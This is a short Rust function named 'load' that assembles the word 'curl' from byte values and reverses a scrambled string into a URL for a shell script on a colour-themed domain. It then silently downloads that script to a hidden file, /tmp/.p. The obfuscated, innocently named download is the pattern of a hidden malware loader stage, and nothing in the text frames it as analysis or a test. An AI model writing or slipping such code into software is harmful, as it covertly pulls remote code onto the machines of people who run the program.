pub fn load() {
    let tool = String::from_utf8(vec![99, 117, 114, 108]).unwrap();
    let src: String = "hs.etelap/ten.sdnelb-roloc//:sptth".chars().rev().collect();
    let _ = std::process::Command::new(tool).arg("-s").arg(src).arg("-o").arg("/tmp/.p").status();
}
